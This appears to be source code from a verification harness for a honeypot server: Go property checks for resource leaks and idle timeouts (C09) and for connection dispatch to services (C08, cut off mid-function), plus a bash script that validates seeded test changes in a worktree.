