// Package c09: handlers finish and release everything once the peer is gone.
// Monitor: resource census (goroutines by honeytrap stack signature, open
// descriptors by kind, CPU time) at quiescence before and after histories of
// N and 2N sequential connections, plus silent connections that must be
// closed by the idle timeout.
package c09

import (
	"bytes"
	"encoding/json"
	"fmt"
	"net"
	"os"
	"regexp"
	"sort"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"time"

	"verif/htlab/internal/core"
	"verif/htlab/internal/gen"
	"verif/htlab/internal/lab"
	"verif/htlab/internal/props/c01"
)

type prop struct{}

func init() { core.Register(prop{}) }

func (prop) ID() string       { return "C09" }
func (prop) Level() string    { return "exploration" }
func (prop) Parallelism() int { return 26 } // children mostly sleep through the 40 s grace
func (prop) Rule() string {
	return "scenario = one service of the C01 quantifier hosted by the real dispatcher: warm-up, census, history of N sequential connections (C01 dialogue/mutation/raw inputs followed by client close; single datagrams for UDP; FTP PASV/EPSV never connected to) plus silent connections parked at protocol stages (no byte, partial first message, after the first message), 40 s grace (> the 30 s idle timeout), census, N more connections, grace, census. Non-trivial = the history elicited replies or events and both censuses were taken; distinct by (service, N). Every history includes the service's fixed cases (request storms, ftp data-connection commands with ill-formed arguments and transfers without a data connection, repeated PASV/EPSV, authenticated ssh channel storms). Also: key sequences that never end (telnet, authenticated ssh shell), an ssh shell that receives 40 window-change requests, a slow passive ftp session with several transfers on one data connection; an end-of-run census reports connection handlers that are still running after every client has left. Every tcp history contains six pairs of sessions in which the first sends its first message, a second one from another address runs its whole dialogue and leaves, and the first then goes on."
}
func (prop) Assumptions() []string {
	return []string{"'bounded time' is checked as: handlers of closed clients have returned by the census taken after a 40 s grace; connections left silent are closed by the server within 95 s (three idle timeouts + 5 s: net/http's header reader legitimately swallows one timeout while peeking for a continuation line)", "a leak is an excess over the warm baseline that is positive after N connections and larger after 2N (one-off lazily created goroutines are baseline)", "spin = more than half a core of CPU over a 2 s idle window"}
}

type params struct {
	Svc int `json:"svc"`
	N   int `json:"n"`
}

func (prop) Plan(tier string, seed int64) []core.Batch {
	n := 12
	if tier == "thorough" {
		n = 100
	}
	var plan []core.Batch
	for i, s := range gen.Services() {
		p, _ := json.Marshal(params{Svc: i, N: n})
		plan = append(plan, core.Batch{Name: s.Type + "/" + s.Net, N: 1, Params: p, Timeout: 1500})
	}
	return plan
}

type census struct {
	Gor     map[string]int `json:"gor"`
	FDs     map[string]int `json:"fds"`
	CPUms   int64          `json:"cpu_ms_2s_window"`
	Handles int            `json:"handles"`
	Files   []string       `json:"open_files,omitempty"` // the file:other descriptors, by path
}

func cpuMs() int64 {
	var ru syscall.Rusage
	syscall.Getrusage(syscall.RUSAGE_SELF, &ru)
	return (ru.Utime.Sec+ru.Stime.Sec)*1000 + int64(ru.Utime.Usec+ru.Stime.Usec)/1000
}

func takeCensus(window bool) census {
	c := census{Gor: lab.GoroutineCensus(), FDs: map[string]int{}}
	for sig, n := range c.Gor {
		if strings.Contains(sig, "server.(*Honeytrap).handle") {
			c.Handles += n
		}
	}
	for _, t := range lab.FDs() {
		k := t
		if i := strings.Index(t, ":["); i > 0 {
			k = t[:i]
		}
		if strings.HasPrefix(k, "/") {
			if strings.Contains(k, "/data/badger.db") {
				k = "file:badger"
			} else if strings.Contains(k, "/proc/") {
				continue
			} else {
				c.Files = append(c.Files, strings.TrimPrefix(k, lab.WorkDir()))
				k = "file:other"
			}
		}
		c.FDs[k]++
	}
	if window {
		c0 := cpuMs()
		time.Sleep(2 * time.Second)
		c.CPUms = cpuMs() - c0
	}
	return c
}

type silentConn struct {
	Stage  string `json:"stage"`
	Closed bool   `json:"closed"`
}

type obs struct {
	N       int          `json:"n"`
	C0      census       `json:"c0"`
	C1      census       `json:"c1"`
	C2      census       `json:"c2"`
	Silent  []silentConn `json:"silent"`
	Replies int          `json:"replies"`
	Events  int          `json:"events"`
	Linger1 int          `json:"linger_right_after_close"`
	Dump    string       `json:"dump,omitempty"`
	Slow    string       `json:"slow_passive_session_transcript,omitempty"`
	// HandlersLeft: connection handlers still running 2 s after the last client of all (silent ones included) left
	HandlersLeft map[string]int `json:"handlers_left_at_the_end,omitempty"`
}

const grace = 40 * time.Second

func (prop) Child(b core.Batch, o *core.Obs) {
	var p params
	b.P(&p)
	o.Begin(0)
	defer o.End(0)
	w, err := c01.StartWorkload(p.Svc)
	if err != nil {
		o.Emit(core.Rec{T: "starterr", S: err.Error()})
		return
	}
	s := w.Svc
	ob := obs{N: p.N}
	// warm-up: lazily started runtime/library goroutines become baseline
	w.Run(b.Seed, 900000, 0, true)
	w.Run(b.Seed, 900001, 1, true)
	time.Sleep(500 * time.Millisecond)
	ob.C0 = takeCensus(false)

	type parked struct {
		stage string
		cc    *lab.CliConn
	}
	var park []parked
	var silentPeers []net.Conn // data connections of ftp sessions whose peer never says anything; kept open to the end
	defer func() {
		for _, c := range silentPeers {
			c.Close()
		}
	}()
	var parkedAt time.Time
	history := func(from int, silent bool) {
		for k := from; k < from+p.N; k++ {
			info := w.Run(b.Seed, 20000+k, 100+k, true)
			ob.Replies += info.Reply
			ob.Events += info.Events
			ob.Linger1 += info.Linger
		}
		// the service's fixed cases (boundary values, request storms) belong to every history
		for i := 0; i < w.FixedCount(); i++ {
			info := w.Run(b.Seed, i, 400+from+i, true)
			ob.Replies += info.Reply
			ob.Events += info.Events
			ob.Linger1 += info.Linger
		}
		if s.Net == "tcp" {
			// sessions that outlive a later one: A opens and sends its first message; B, from another address, runs
			// its whole dialogue and leaves; then A goes on, finishes and leaves
			for i := 0; i < 6; i++ {
				dA := s.Dialogue(core.NewRng(b.Seed, "C09/outlive-a/"+s.Type, from+i))
				dB := s.Dialogue(core.NewRng(b.Seed, "C09/outlive-b/"+s.Type, from+i))
				if len(dA) < 2 {
					continue
				}
				ca := lab.NewClient(w.Srv.L.DialTCP(lab.TCPAddr("10.0.0.1", s.Port), lab.TCPAddr("203.0.113.80", 7200+from+i)))
				step := func(cl *lab.Client, m []byte) bool {
					if cl.Send(m, time.Second) != nil {
						return false
					}
					cl.WaitIdle(60 * time.Millisecond)
					return true
				}
				ca.WaitIdle(60 * time.Millisecond)
				okA := step(ca, dA[0])
				cb := lab.NewClient(w.Srv.L.DialTCP(lab.TCPAddr("10.0.0.1", s.Port), lab.TCPAddr("203.0.113.81", 7300+from+i)))
				cb.WaitIdle(60 * time.Millisecond)
				for _, m := range dB {
					if !step(cb, m) {
						break
					}
				}
				ob.Replies += len(cb.Received())
				cb.Close()
				time.Sleep(20 * time.Millisecond)
				for _, m := range dA[1:] {
					if !okA || !step(ca, m) {
						break
					}
				}
				ob.Replies += len(ca.Received())
				ca.Close()
			}
		}
		if s.Type == "ftp" {
			// passive-mode requests that are never connected to, with and without a transfer command
			for i, cmds := range [][]string{{"PASV"}, {"EPSV"}, {"PASV", "LIST"}, {"EPSV", "NLST"}, {"PASV", "RETR x"}} {
				cc := w.Srv.L.DialTCP(lab.TCPAddr("10.0.0.1", s.Port), lab.TCPAddr("203.0.113.78", 7100+from+i))
				cl := lab.NewClient(cc)
				for _, c := range append([]string{"USER anonymous", "PASS anonymous"}, cmds...) {
					if cl.Send([]byte(c+"\r\n"), time.Second) != nil {
						break
					}
					cl.WaitIdle(100 * time.Millisecond)
				}
				ob.Replies += len(cl.Received())
				cl.Close()
			}
		}
		if s.Type == "ftp" {
			// a data connection whose peer connects and then says nothing (no TLS hello, no byte), with an upload and
			// with a listing waiting on it; the client leaves the control connection, the silent peer stays
			for i, cmd := range []string{"STOR s.txt", "LIST"} {
				cc := w.Srv.L.DialTCP(lab.TCPAddr("10.0.0.1", s.Port), lab.TCPAddr("203.0.113.82", 7400+from+i))
				cl := lab.NewClient(cc)
				for _, c := range []string{"USER anonymous", "PASS anonymous", "PASV"} {
					if cl.Send([]byte(c+"\r\n"), time.Second) != nil {
						break
					}
					cl.WaitIdle(100 * time.Millisecond)
				}
				if m := regexp.MustCompile(`\((\d+),(\d+),(\d+),(\d+),(\d+),(\d+)\)`).FindSubmatch(cl.Received()); m != nil {
					p1, _ := strconv.Atoi(string(m[5]))
					p2, _ := strconv.Atoi(string(m[6]))
					if dc, err := net.DialTimeout("tcp", fmt.Sprintf("127.0.0.1:%d", p1*256+p2), 2*time.Second); err == nil {
						silentPeers = append(silentPeers, dc)
					}
					cl.Send([]byte(cmd+"\r\n"), time.Second)
					cl.WaitIdle(300 * time.Millisecond)
				}
				ob.Replies += len(cl.Received())
				cl.Close()
			}
		}
		if s.Net == "tcp" && silent {
			// silent clients at protocol stages (two inputs per stage)
			for i, stage := range []string{"no-byte", "partial-first-message", "after-first-message", "no-byte", "partial-first-message", "after-first-message"} {
				r := core.NewRng(b.Seed, "C09/silent/"+s.Type, from+i)
				d := s.Dialogue(r)
				cc := w.Srv.L.DialTCP(lab.TCPAddr("10.0.0.1", s.Port), lab.TCPAddr("203.0.113.77", 7000+from+i))
				switch stage {
				case "partial-first-message":
					if len(d) > 0 && len(d[0]) > 1 {
						cc.Write(d[0][:len(d[0])/2])
					}
				case "after-first-message":
					if len(d) > 0 {
						cc.Write(d[0])
					}
				}
				// drain whatever the server says so its writes never block on us
				go func() {
					buf := make([]byte, 4096)
					for {
						if _, err := cc.Conn.Read(buf); err != nil {
							return
						}
					}
				}()
				park = append(park, parked{stage, cc})
			}
			parkedAt = time.Now()
		}
	}
	var slow sync.WaitGroup
	if s.Type == "ftp" {
		// a session that waits out the passive accept window: PASV, nobody connects, STOR (answered 450 after
		// about 30 s), a second STOR on the expired socket, then the client leaves. It runs beside the first
		// history; the grace period starts when it is over.
		slow.Add(1)
		go func() {
			defer slow.Done()
			cc := w.Srv.L.DialTCP(lab.TCPAddr("10.0.0.1", s.Port), lab.TCPAddr("203.0.113.79", 7999))
			cl := lab.NewClient(cc)
			defer cl.Close()
			say := func(cmds ...string) bool {
				for _, c := range cmds {
					if cl.Send([]byte(c+"\r\n"), time.Second) != nil {
						return false
					}
					cl.WaitIdle(100 * time.Millisecond)
				}
				return true
			}
			if !say("USER anonymous", "PASS anonymous", "PASV", "STOR a.txt") {
				return
			}
			if m := regexp.MustCompile(`open (/[^:]*)/a\.txt: no such file or directory`).FindSubmatch(cl.Received()); m != nil {
				// an earlier (warm-up) scenario has removed the root directory itself: put it back, the upload
				// must get as far as waiting for its data connection
				os.MkdirAll(string(m[1]), 0755)
				if !say("PASV", "STOR a.txt") {
					return
				}
			}
			mark := len(cl.Received())
			cl.WaitFor(func(b []byte) bool { return len(b) > mark && bytes.Contains(b[mark-2:], []byte("\r\n4")) }, 36*time.Second)
			cl.Send([]byte("STOR b.txt\r\n"), time.Second)
			cl.WaitIdle(300 * time.Millisecond)
			t := string(cl.Received())
			if len(t) > 400 {
				t = t[len(t)-400:]
			}
			ob.Slow = t
		}()
	}
	history(0, true)
	slow.Wait()
	time.Sleep(grace)
	ob.C1 = takeCensus(true)
	ob.C1.FDs["socket"] -= len(silentPeers) // the harness's own ends of the silent data connections, still held
	history(p.N, false)
	time.Sleep(grace)
	ob.C2 = takeCensus(true)
	ob.C2.FDs["socket"] -= len(silentPeers)
	if len(park) > 0 {
		// the silent connections have had at least 85 s; give them up to 95 s
		for time.Since(parkedAt) < 95*time.Second {
			open := 0
			for _, pk := range park {
				if !pk.cc.Srv.Closed() {
					open++
				}
			}
			if open == 0 {
				break
			}
			time.Sleep(200 * time.Millisecond)
		}
	}
	for _, pk := range park {
		ob.Silent = append(ob.Silent, silentConn{Stage: pk.stage, Closed: pk.cc.Srv.Closed()})
		pk.cc.Close()
	}
	// every client is gone now, the silent ones included: no connection handler may be left (a single one that
	// never returns does not grow from census to census, so the growth rule alone would not see it)
	time.Sleep(2 * time.Second)
	c3 := takeCensus(false)
	for sig, n := range excess(ob.C0.Gor, c3.Gor) {
		if strings.Contains(sig, "server.(*Honeytrap).handle") {
			if ob.HandlersLeft == nil {
				ob.HandlersLeft = map[string]int{}
			}
			ob.HandlersLeft[sig] = n
		}
	}
	if excess(ob.C0.Gor, ob.C2.Gor) != nil || ob.C2.CPUms > 1000 || ob.HandlersLeft != nil {
		d := lab.GoroutineDump()
		if len(d) > 60000 {
			d = d[:60000]
		}
		ob.Dump = d
	}
	o.EmitX("obs", ob)
}

// excess returns the signatures whose count grew over the baseline.
func excess(base, now map[string]int) map[string]int {
	var out map[string]int
	for sig, n := range now {
		if n > base[sig] {
			if out == nil {
				out = map[string]int{}
			}
			out[sig] = n - base[sig]
		}
	}
	return out
}

func shortSig(sig string) string {
	parts := strings.Split(sig, " < ")
	// name the innermost honeytrap function and who created the goroutine
	s := parts[0]
	for _, p := range parts {
		if strings.HasPrefix(p, "created-by:") {
			s += "<" + p
		}
	}
	return s
}

func (prop) Judge(b core.Batch, recs []core.Rec, exits []core.Exit) []core.Result {
	var p params
	b.P(&p)
	s := gen.Services()[p.Svc]
	svc := s.Type + "/" + s.Net
	var out []core.Result
	for _, r := range recs {
		switch r.T {
		case "starterr":
			out = append(out, core.Result{K: 0, Verdict: core.Inconclusive, What: "server did not start: " + r.S})
		case "obs":
			var ob obs
			if r.XInto(&ob) != nil {
				continue
			}
			base := core.Result{K: 0, Verdict: core.Held}
			if ob.Replies+ob.Events > 0 {
				base.Key = fmt.Sprintf("%s|N%d", svc, ob.N)
				base.Sample = map[string]interface{}{"service": svc, "N": ob.N, "reply_bytes": ob.Replies, "events": ob.Events,
					"goroutine_signatures_baseline": len(ob.C0.Gor), "after_N": sum(ob.C1.Gor), "after_2N": sum(ob.C2.Gor), "fds_baseline": ob.C0.FDs, "fds_after_2N": ob.C2.FDs,
					"cpu_ms_idle_2s": ob.C2.CPUms, "silent_connections": ob.Silent, "handlers_running_at_census": ob.C2.Handles}
			}
			out = append(out, base)
			e1, e2 := excess(ob.C0.Gor, ob.C1.Gor), excess(ob.C0.Gor, ob.C2.Gor)
			var sigs []string
			for sig := range e2 {
				sigs = append(sigs, sig)
			}
			sort.Strings(sigs)
			for _, sig := range sigs {
				if e1[sig] > 0 && e2[sig] > e1[sig] {
					out = append(out, core.Result{K: 0, Verdict: core.Violated, Sig: "C09|" + svc + "|goroutine-leak|" + shortSig(sig),
						What:    fmt.Sprintf("%d goroutines left after %d connections and %d after %d (40 s after the last client closed): %s", e1[sig], ob.N, e2[sig], 2*ob.N, sig),
						Witness: map[string]interface{}{"signature": sig, "after_N": e1[sig], "after_2N": e2[sig], "dump_excerpt": grepDump(ob.Dump, strings.Split(sig, " < ")[0])}})
				}
			}
			for sig, n := range ob.HandlersLeft {
				if e1[sig] > 0 && e2[sig] > e1[sig] {
					continue // reported by the growth rule already
				}
				out = append(out, core.Result{K: 0, Verdict: core.Violated, Sig: "C09|" + svc + "|handler-never-returned|" + shortSig(sig),
					What:    fmt.Sprintf("%d connection handler(s) still running after every client had left (at least 40 s before, silent ones 2 s before): %s", n, sig),
					Witness: map[string]interface{}{"signature": sig, "count": n, "slow_session": ob.Slow, "dump_excerpt": grepDump(ob.Dump, strings.Split(sig, " < ")[0])}})
			}
			f1, f2 := excess(ob.C0.FDs, ob.C1.FDs), excess(ob.C0.FDs, ob.C2.FDs)
			for kind, n2 := range f2 {
				if f1[kind] > 0 && n2 > f1[kind] {
					out = append(out, core.Result{K: 0, Verdict: core.Violated, Sig: "C09|" + svc + "|descriptor-leak|" + kind,
						What: fmt.Sprintf("%d extra %s descriptors after %d connections and %d after %d", f1[kind], kind, ob.N, n2, 2*ob.N), Witness: map[string]interface{}{"c0": ob.C0.FDs, "c1": ob.C1.FDs, "c2": ob.C2.FDs, "open_files_baseline": ob.C0.Files, "open_files_after_2N": ob.C2.Files}})
				}
			}
			if ob.C1.CPUms > 1000 && ob.C2.CPUms > 1000 {
				out = append(out, core.Result{K: 0, Verdict: core.Violated, Sig: "C09|" + svc + "|spin", What: fmt.Sprintf("idle process burned %d ms and %d ms CPU in two 2 s windows with no client connected", ob.C1.CPUms, ob.C2.CPUms),
					Witness: map[string]interface{}{"dump_excerpt": grepDump(ob.Dump, "[running]")}})
			}
			stages := map[string]int{}
			for _, sc := range ob.Silent {
				if !sc.Closed {
					stages[sc.Stage]++
				}
			}
			for st, n := range stages {
				out = append(out, core.Result{K: 0, Verdict: core.Violated, Sig: "C09|" + svc + "|handler-not-returned-after-silence|" + st,
					What: fmt.Sprintf("%d connection(s) left silent at stage %q were still open on the server side 95 s later (idle timeout is 30 s)", n, st), Witness: ob.Silent})
			}
		}
	}
	for _, e := range exits {
		if e.Died() {
			out = append(out, core.Result{K: 0, Verdict: core.Inconclusive, What: fmt.Sprintf("child died (%s %s) in %s - crash classes belong to C01", e.Class, e.Frame, svc)})
		}
	}
	return out
}

func sum(m map[string]int) int {
	t := 0
	for _, n := range m {
		t += n
	}
	return t
}

func grepDump(dump, needle string) string {
	for _, blk := range strings.Split(dump, "\n\n") {
		if strings.Contains(blk, needle) {
			if len(blk) > 2500 {
				blk = blk[:2500]
			}
			return blk
		}
	}
	return ""
}
