#!/bin/bash
# tools/seeded.sh <Cxx> <worktree> <demo-relative-path> "<demo command run in worktree>"
# Verifies a seeded change in its worktree (demo fails with it, passes without), stores it under
# /verif/seeded/<Cxx>-<n>/ and runs ./check <Cxx> quick against the worktree (VERIF_REPO mode);
# an optional 5th argument lists further checks to run against it.
set -u
id="$1"; wt="$2"; demo="$3"; cmd="$4"
export GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local
cd "$wt" || exit 2
n=1; while [ -d "/verif/seeded/$id-$n" ]; do n=$((n+1)); done
dst="/verif/seeded/$id-$n"; mkdir -p "$dst"
git diff -- . ":(exclude)$demo" > "$dst/patch.diff"
mkdir -p "$dst/demo"; cp -r "$wt/$demo" "$dst/demo/" 2>/dev/null
echo "== build with change"; go build ./... || { echo BUILD-FAILS; exit 1; }
echo "== demo with change (must fail)"; (eval "$cmd") > "$dst/demo_with.txt" 2>&1; w=$?; tail -5 "$dst/demo_with.txt"
git apply -R "$dst/patch.diff"   # (git stash is shared between worktrees: never use it here)
echo "== demo without change (must pass)"; (eval "$cmd") > "$dst/demo_without.txt" 2>&1; wo=$?; tail -3 "$dst/demo_without.txt"
git apply "$dst/patch.diff"
echo "demo exit with=$w without=$wo"
echo "== tests of touched packages"
pk=$(git diff --name-only -- . ":(exclude)$demo" | xargs -n1 dirname | sort -u | sed 's|^|./|')
mv "$wt/$demo" /tmp/.demo_aside.$$ 2>/dev/null
go test -vet=off -count=1 $pk 2>&1 | tail -5 | tee "$dst/pkg_tests.txt"
mv /tmp/.demo_aside.$$ "$wt/$demo" 2>/dev/null
echo "== run the check against the worktree (alternate-repo mode of ./check: /repo and /verif/evidence stay untouched)"
export VERIF_REPO="$wt" VERIF_BUILD="/verif/.build-alt-$id"
(cd /verif && ./check "$id" quick) > "$dst/check_quick.txt" 2>&1; c=$?
grep -E "^VIOLATION|signature=|^SUMMARY|^KNOWN|^ERROR" "$dst/check_quick.txt" | cut -c1-260 | head -12
echo "check exit=$c  (stored in $dst)"
for other in ${5:-}; do
  (cd /verif && VERIF_BUILD="/verif/.build-alt-$id" ./check "$other" quick) > "$dst/check_quick_$other.txt" 2>&1; echo "also $other exit=$?"
  grep -E "signature=|^SUMMARY" "$dst/check_quick_$other.txt" | cut -c1-200 | head -4
done
rm -rf "/verif/.build-alt-$id"
