// Package c08: connections go to the first configured service that accepts
// them, stream intact. Stub services record who was invoked and what they
// read; the oracle is a reference selector written from the statement.
package c08

import (
	"bytes"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net"
	"strings"
	"sync"
	"time"

	"verif/htlab/internal/core"
	"verif/htlab/internal/lab"
)

type prop struct{}

func init() { core.Register(prop{}) }

func (prop) ID() string    { return "C08" }
func (prop) Level() string { return "exploration" }
func (prop) Rule() string {
	return "scenario = one generated port table (<=3 entries, tcp/udp, wildcard or specific address, service lists of length 0..4 mixing detector-less stubs, prefix-detector stubs and an undefined name) run through the real server.Run, probed by 8 connections (payload satisfying none/one/several detectors, first segment of 1 byte .. whole payload, zero-byte clients, unlisted ports/addresses); in-memory listener with exact segmentation, plus a sample through the real socket listener on loopback. Non-trivial = a stub was invoked or the dispatcher closed the connection; distinct by (table, probe). Through the real socket listener the scenario's datagrams are also sent all at once (socket-burst, three rounds, calls attributed by client address). A quarter of the in-memory tcp probes are silent at first: whether a service has been invoked is recorded before the payload goes out."
}
func (prop) Assumptions() []string {
	return []string{
		"detector judged on the first segment as delivered (<=1024 bytes); for loopback sockets the kernel may coalesce, so any prefix >= the first write is admissible",
		"lab connections carry a concrete local IP",
		"zero-byte clients: only 'no ineligible service invoked' is demanded",
	}
}

type stubDef struct {
	Name   string
	Prefix string // "-" = no detector
}

var pool = []stubDef{{"plainA", "-"}, {"plainB", "-"}, {"preG", "G"}, {"preGET", "GET"}, {"preSSH", "SSH"}, {"preTLS", "\x16\x03"}, {"preEmpty", ""}}

func stubByName(n string) *stubDef {
	for i := range pool {
		if pool[i].Name == n {
			return &pool[i]
		}
	}
	return nil
}

type portEntry struct {
	Net      string   `json:"net"`
	IP       string   `json:"ip"` // "" = wildcard
	Port     int      `json:"port"`
	Services []string `json:"services"`
}

type probe struct {
	Net     string `json:"net"`
	IP      string `json:"ip"`
	Port    int    `json:"port"`
	Payload []byte `json:"payload"`
	First   int    `json:"first"` // length of first segment
	// Silent: the client connects and sends nothing for a while (it waits for a greeting); whether a service has
	// been invoked by then is recorded before the payload goes out
	Silent bool `json:"silent,omitempty"`
}

type scenario struct {
	Ports  []portEntry `json:"ports"`
	Probes []probe     `json:"probes"`
	Socket bool        `json:"socket"`
	Conc   bool        `json:"conc"` // all probes at once, stubs read slowly
	// Group: consecutive entries with the same service list are written as one [[port]] entry with ports=[...]
	Group bool `json:"grouped_entries,omitempty"`
}

func mkScenario(seed int64, idx int, socket bool) scenario {
	r := core.NewRng(seed, "C08", idx)
	var sc scenario
	sc.Socket = socket
	sc.Conc = idx >= 700000
	basePort := 8000
	if socket {
		basePort = 6000 + (idx%400)*4 // (below the ranges other checks draw real ports from; see freeShift)
	}
	np := r.Range(1, 3)
	for i := 0; i < np; i++ {
		e := portEntry{Net: "tcp", Port: basePort + r.Intn(2)}
		if r.Chance(1, 4) {
			e.Net = "udp"
		}
		e.IP = r.PickS([]string{"", "", "127.0.0.1", "127.0.0.2"})
		n := r.PickI([]int{0, 1, 1, 2, 2, 3, 3, 4})
		for j := 0; j < n; j++ {
			if r.Chance(1, 10) {
				e.Services = append(e.Services, "ghost")
			} else {
				e.Services = append(e.Services, pool[r.Intn(len(pool))].Name)
			}
		}
		sc.Ports = append(sc.Ports, e)
	}
	if !socket && len(sc.Ports) > 0 && r.Chance(1, 3) {
		// the first entry gets two more ports (same protocol and service list): the grouped form of the
		// configuration, ports=[a, b, c]
		sc.Group = true
		e := sc.Ports[0]
		e2, e3 := e, e
		e2.Port, e3.Port = basePort+2, basePort+3
		sc.Ports = append([]portEntry{e, e2, e3}, sc.Ports[1:]...)
	}
	payloads := [][]byte{[]byte("GET / HTTP/1.0\r\n\r\n"), []byte("G"), []byte("GE"), []byte("SSH-2.0-x\r\n"), {0x16, 0x03, 0x01, 0x00, 0x05, 1, 2, 3, 4, 5}, []byte("XYZ"), {}, {0x16}}
	for i := 0; i < 8; i++ {
		var p probe
		if r.Chance(5, 6) {
			e := sc.Ports[r.Intn(len(sc.Ports))]
			p.Net, p.Port = e.Net, e.Port
			p.IP = e.IP
			if p.IP == "" || r.Chance(1, 5) {
				p.IP = r.PickS([]string{"127.0.0.1", "127.0.0.2", "127.0.0.3"})
			}
		} else {
			p.Net = r.PickS([]string{"tcp", "udp"})
			p.Port = basePort + r.Intn(3)
			p.IP = r.PickS([]string{"127.0.0.1", "127.0.0.2", "127.0.0.3"})
		}
		p.Payload = append([]byte(nil), payloads[r.Intn(len(payloads))]...)
		switch r.Intn(4) {
		case 0: // long tail
			p.Payload = append(p.Payload, r.Bytes(r.Range(1, 4096))...)
		case 1:
			p.Payload = append(p.Payload, []byte(r.Alnum(r.Range(0, 40)))...)
		}
		switch r.Intn(3) {
		case 0:
			p.First = len(p.Payload)
		case 1:
			p.First = r.Range(1, 16)
		default:
			p.First = r.Range(1, len(p.Payload)+1)
		}
		if p.First > len(p.Payload) {
			p.First = len(p.Payload)
		}
		if p.Net == "udp" {
			p.First = len(p.Payload)
		}
		if p.Net == "tcp" && !socket && r.Chance(1, 4) {
			p.Silent = true
		}
		sc.Probes = append(sc.Probes, p)
	}
	return sc
}

// freeShift returns an offset (0, 1000, 2000) under which every port the scenario mentions can be bound on the
// loopback addresses right now, or -1.
func freeShift(sc scenario) int {
	for _, shift := range []int{0, 1000, 2000} {
		free := true
		seen := map[string]bool{}
		try := func(network string, port int) {
			key := fmt.Sprintf("%s/%d", network, port)
			if seen[key] || !free {
				return
			}
			seen[key] = true
			if network == "tcp" {
				l, err := net.Listen("tcp", fmt.Sprintf(":%d", port))
				if err != nil {
					free = false
					return
				}
				l.Close()
			} else {
				l, err := net.ListenPacket("udp", fmt.Sprintf(":%d", port))
				if err != nil {
					free = false
					return
				}
				l.Close()
			}
		}
		for _, e := range sc.Ports {
			try(e.Net, e.Port+shift)
		}
		for _, pr := range sc.Probes {
			try(pr.Net, pr.Port+shift)
		}
		if free {
			return shift
		}
	}
	return -1
}

func config(sc scenario) string {
	var b strings.Builder
	lt := "lab"
	if sc.Socket {
		lt = "socket"
	}
	fmt.Fprintf(&b, "[listener]\ntype=%q\n\n[channel.cap0]\ntype=\"lab-capture\"\nid=\"cap0\"\n\n[[filter]]\nchannel=[\"cap0\"]\n\n", lt)
	slow := ""
	if sc.Conc {
		slow = "slow_ms=3\n"
	}
	for _, s := range pool {
		if s.Prefix == "-" {
			fmt.Fprintf(&b, "[service.%s]\ntype=\"lab-stub-plain\"\nname=%q\n%s\n", s.Name, s.Name, slow)
		} else {
			fmt.Fprintf(&b, "[service.%s]\ntype=\"lab-stub-prefix\"\nname=%q\nprefix=%q\n%s\n", s.Name, s.Name, hex.EncodeToString([]byte(s.Prefix)), slow)
		}
	}
	addrOf := func(e portEntry) string {
		if e.IP != "" {
			return fmt.Sprintf("%s/%s:%d", e.Net, e.IP, e.Port)
		}
		return fmt.Sprintf("%s/%d", e.Net, e.Port)
	}
	for i := 0; i < len(sc.Ports); i++ {
		e := sc.Ports[i]
		var q []string
		for _, s := range e.Services {
			q = append(q, fmt.Sprintf("%q", s))
		}
		if sc.Group && i == 0 && len(sc.Ports) >= 3 {
			fmt.Fprintf(&b, "[[port]]\nports=[%q,%q,%q]\nservices=[%s]\n\n", addrOf(e), addrOf(sc.Ports[1]), addrOf(sc.Ports[2]), strings.Join(q, ","))
			i += 2
			continue
		}
		fmt.Fprintf(&b, "[[port]]\nport=%q\nservices=[%s]\n\n", addrOf(e), strings.Join(q, ","))
	}
	return b.String()
}

// ---- reference selector (from the statement) --------------------------------

func compatible(a, b portEntry) bool {
	return a.Net == b.Net && a.Port == b.Port && (a.IP == "" || b.IP == "" || a.IP == b.IP)
}

// effective returns the port entries that are listened on: those naming at
// least one defined service; the first of two compatible entries wins.
func effective(ports []portEntry) []portEntry {
	var out []portEntry
	for _, e := range ports {
		var defined []string
		for _, s := range e.Services {
			if stubByName(s) != nil {
				defined = append(defined, s)
			}
		}
		if len(defined) == 0 {
			continue
		}
		dup := false
		for _, o := range out {
			if compatible(o, e) {
				dup = true
			}
		}
		if dup {
			continue
		}
		e.Services = defined
		out = append(out, e)
	}
	return out
}

// admissible returns the set of stubs the statement allows for a probe whose
// first delivered segment is any of firsts ("" = none may be invoked).
func admissible(sc scenario, p probe, firsts [][]byte) map[string]bool {
	adm := map[string]bool{}
	var entry *portEntry
	for _, e := range effective(sc.Ports) {
		e := e
		if e.Net == p.Net && e.Port == p.Port && (e.IP == "" || e.IP == p.IP) {
			entry = &e
			break
		}
	}
	if entry == nil {
		adm[""] = true
		return adm
	}
	if len(entry.Services) == 1 {
		adm[entry.Services[0]] = true
		return adm
	}
	for _, first := range firsts {
		if len(first) > 1024 {
			first = first[:1024]
		}
		chosen := ""
		for _, s := range entry.Services {
			d := stubByName(s)
			if d.Prefix == "-" || bytes.HasPrefix(first, []byte(d.Prefix)) {
				chosen = s
				break
			}
		}
		adm[chosen] = true
	}
	return adm
}

// ---- child ---------------------------------------------------------------------

type probeObs struct {
	I      int       `json:"i"`
	Calls  []callObs `json:"calls"`
	Closed bool      `json:"closed"`
	Err    string    `json:"err,omitempty"`
	Burst  bool      `json:"burst,omitempty"` // sent together with the scenario's other datagrams, not on its own
	Early  bool      `json:"invoked_before_first_byte,omitempty"`
}
type callObs struct {
	Stub string `json:"stub"`
	Hex  string `json:"hex"`
	Done bool   `json:"done"`
}

type params struct {
	Offset int  `json:"offset"`
	Socket bool `json:"socket"`
	Conc   bool `json:"conc"`
}

func (prop) Plan(tier string, seed int64) []core.Batch {
	n, chunks, sock := 400, 8, 60
	if tier == "thorough" {
		n, chunks, sock = 8000, 16, 400
	}
	var plan []core.Batch
	per := n / chunks
	for c := 0; c < chunks; c++ {
		p, _ := json.Marshal(params{Offset: c * per})
		plan = append(plan, core.Batch{Name: fmt.Sprintf("mem/%d", c), N: per, Params: p, Timeout: 900})
	}
	p, _ := json.Marshal(params{Offset: 500000, Socket: true})
	plan = append(plan, core.Batch{Name: "socket", N: sock, Params: p, Timeout: 900})
	// the same kind of tables with all probe connections open at once and services that read slowly
	for c := 0; c < 2; c++ {
		p, _ = json.Marshal(params{Offset: 700000 + c*per, Conc: true})
		plan = append(plan, core.Batch{Name: fmt.Sprintf("concurrent/%d", c), N: per, Params: p, Timeout: 900})
	}
	return plan
}

func (prop) Child(b core.Batch, o *core.Obs) {
	var p params
	b.P(&p)
	to := b.To
	if to == 0 {
		to = b.N
	}
	for k := b.From; k < to; k++ {
